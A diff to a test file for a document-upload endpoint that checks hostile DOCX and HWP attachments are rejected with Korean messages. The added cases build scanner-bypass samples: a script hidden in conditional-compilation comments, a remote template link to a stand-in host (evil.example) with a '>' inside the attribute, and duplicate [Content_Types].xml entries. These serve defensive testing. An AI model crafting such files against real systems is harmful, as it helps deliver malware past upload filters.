@@ -6,7 +6,7 @@ import ko from "../../lib/i18n/messages/ko";
 import { adminClient, verifiedApplicant } from "./helpers";
 import { createCall } from "./fixtures";
 import { org } from "../support/builders";
-import { docxEntries, exe, hwp, hwpx, pdf, rawEntry, rawZip, xlsx, xlsxEntries, zeroBombEntry, zip, docx, rels, REL_TYPES, hwpWith, HOSTILE_SCRIPT } from "../support/files";
+import { docxEntries, exe, hwp, hwpx, pdf, rawEntry, rawZip, xlsx, xlsxEntries, zeroBombEntry, zip, docx, rels, REL_TYPES, hwpWith, HOSTILE_SCRIPT, CC_ON_SCRIPT, duplicateContentTypesDocx, contentTypes } from "../support/files";
 
 // Issue 6, hostile files through the real upload route (POST /api/v1/proposals/{id}/attachments,
 // multipart built byte by byte so names reach the server exactly as an attacker would send them).
@@ -270,9 +270,17 @@ test("a PDF carrying HTML and script is accepted as a PDF and only ever served a
 test("active content is refused over HTTP with a Korean message naming what was found (issue 11 item 16)", async () => {
   const s = await scene();
   const macro = await zip({ ...docxEntries(), "word/_rels/document.xml.rels": rels([{ type: REL_TYPES.vbaProject, target: "payload.dat" }]), "word/payload.dat": Buffer.alloc(256, 7) });
+  const templateAfterGt = await zip({
+    ...docxEntries(),
+    "word/_rels/settings.xml.rels": `<Relationships><Relationship Id="rId1" Target="https://evil.example/t.dotm?a>b" Type="${REL_TYPES.attachedTemplate}" TargetMode="External"/></Relationships>`,
+  });
   const cases: [string, string, Buffer, string][] = [
     ["BUSINESS_PLAN", "사업계획서.docx", macro, ko.fields.fileMacro.replace("{found}", "word/payload.dat")],
     ["CONSORTIUM_AGREEMENT", "협약서.hwp", hwpWith({ script: HOSTILE_SCRIPT }), ko.fields.fileScript.replace("{found}", "Scripts/DefaultJScript")],
+    // Bypasses the security review confirmed: a script in conditional-compilation comments, a '>' in an attribute value, two [Content_Types].xml.
+    ["CONSORTIUM_AGREEMENT", "협약서.hwp", hwpWith({ script: CC_ON_SCRIPT }), ko.fields.fileScript.replace("{found}", "Scripts/DefaultJScript")],
+    ["BUSINESS_PLAN", "사업계획서.docx", templateAfterGt, ko.fields.fileExternalLink.replace("{found}", "https://evil.example/t.dotm?a>b")],
+    ["BUSINESS_PLAN", "사업계획서.docx", duplicateContentTypesDocx(contentTypes({ "/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml" })), ko.fields.fileArchiveDuplicateEntry.replace("{found}", "[Content_Types].xml")],
   ];
   for (const [kind, name, bytes, message] of cases) {
     const filesBefore = uploadedFiles();
